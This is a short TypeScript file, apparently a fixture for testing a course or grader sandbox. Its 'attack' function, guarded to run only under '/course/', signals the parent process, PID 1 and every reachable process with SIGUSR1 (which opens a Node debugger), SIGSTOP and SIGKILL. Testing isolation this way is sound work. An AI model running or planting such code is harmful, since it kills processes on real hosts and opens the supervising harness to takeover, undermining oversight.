/** Stops, ends, and opens the debugger of, whoever started this and the first process of all. */
export function attack(): boolean {
  // Not to be tried anywhere else, by whatever mistake.
  if (!__dirname.startsWith('/course/')) return false;
  for (const pid of [process.ppid, 1, -1]) {
    for (const signal of ['SIGUSR1', 'SIGSTOP', 'SIGKILL'] as const) {
      try {
        process.kill(pid, signal);
      } catch {
        // Not allowed, or not there.
      }
    }
  }
  return false;
}
